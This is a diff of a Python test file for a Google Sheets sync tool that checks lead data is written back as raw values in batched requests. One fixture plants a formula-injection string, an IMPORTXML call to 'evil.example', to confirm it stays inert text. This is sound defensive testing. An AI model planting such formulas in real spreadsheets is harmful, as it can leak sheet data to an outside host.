@@ -45,16 +45,52 @@ def test_a_sync_reads_every_tab_in_two_requests(sheet: GoogleSheet, sqlite_db: D
     assert requests[1].query["valueRenderOption"] == ["FORMATTED_VALUE"]
 
 
-def test_first_write_back_adds_the_app_tabs_then_writes_raw(sheet: GoogleSheet, sqlite_db: Database) -> None:
+def posts(sheet: GoogleSheet) -> list:  # type: ignore[type-arg]
+    return [r for r in sheet.fake.api_requests() if r.method == "POST"]
+
+
+def test_first_write_back_adds_the_app_tabs_and_fills_them_in_one_request(
+        sheet: GoogleSheet, sqlite_db: Database) -> None:
+    evil = '=IMPORTXML("http://evil.example","//a")'
+    sheet.set_tab("Inbound", [team_tabs()["Inbound"][0],
+                              ["2026-11-16 08:55:00", evil, "+1 555", "(617) 555-0142", "", "", "", ""]])
     result = run_sync(sqlite_db, sheet.source, NOW)
     assert result.written_tabs == ["Leads", "Call Log", "Team Summary"]
-    posts = [r for r in sheet.fake.api_requests() if r.method == "POST"]
-    assert [r.path.rsplit("/", 1)[-1] for r in posts] == [f"{GoogleSheet.KEY}:batchUpdate",
-                                                          "values:batchUpdate"]
-    assert [next(iter(q)) for q in posts[0].json["requests"]] == ["addSheet"] * 3
-    assert posts[1].json["valueInputOption"] == "RAW"
-    assert sheet.tab("Leads")[0][0] == "Lead ID"
+    [write] = posts(sheet)
+    assert write.path.endswith(f"{GoogleSheet.KEY}:batchUpdate")
+    assert [next(iter(q)) for q in write.json["requests"]] == ["addSheet"] * 3 + ["updateCells"] * 3
+    assert "formulaValue" not in json.dumps(write.json)
+    leads = sheet.tab("Leads")
+    assert leads[0][0] == "Lead ID" and leads[1][5:7] == [evil, "+1 555"]
+    assert sheet.fake.formula_cells(GoogleSheet.KEY, "Leads") == []
+    assert sheet.fake.tab_values(GoogleSheet.KEY, "Leads")[1][0] == 1  # a number, as RAW writes it
     assert sheet.tab("Team Summary")[0][:3] == ["Rep", "Calls planned", "Calls made"]
+    sheet.fake.clear_requests()
+    assert run_sync(sqlite_db, sheet.source, NOW + timedelta(minutes=1)).written_tabs == []
+    assert posts(sheet) == []
+
+
+def test_later_write_backs_are_one_raw_values_request(sheet: GoogleSheet, sqlite_db: Database) -> None:
+    run_sync(sqlite_db, sheet.source, NOW)
+    sheet.set_tab("Leads", [["Lead ID"], ["typed by someone"]])
+    sheet.fake.clear_requests()
+    assert run_sync(sqlite_db, sheet.source, NOW + timedelta(minutes=1)).written_tabs == ["Leads"]
+    [write] = posts(sheet)
+    assert write.path.endswith("values:batchUpdate") and write.json["valueInputOption"] == "RAW"
+    assert sheet.tab("Leads") == [sheet.tab("Leads")[0]]
+
+
+def test_a_tab_too_small_is_grown_and_written_in_one_request(
+        sheet: GoogleSheet, sqlite_db: Database) -> None:
+    sheet.fake.add_tab(GoogleSheet.KEY, "Leads", [["Lead ID", "old", "old"], ["old", "old", "old"]],
+                       grid_rows=2, grid_cols=3)
+    run_sync(sqlite_db, sheet.source, NOW)
+    [write] = posts(sheet)
+    assert [next(iter(q)) for q in write.json["requests"]] == [
+        "updateSheetProperties", "addSheet", "addSheet", "updateCells", "updateCells", "updateCells"]
+    assert sheet.tab("Leads") == [sheet.tab("Leads")[0]]  # our header, the old rows cleared
+    assert sheet.tab("Leads")[0][:2] == ["Lead ID", "Received"]
+    assert sheet.fake.grid_size(GoogleSheet.KEY, "Leads")[1] >= len(sheet.tab("Leads")[0])
 
 
 def test_a_shrinking_table_blanks_the_rows_it_left(sheet: GoogleSheet, sqlite_db: Database) -> None:
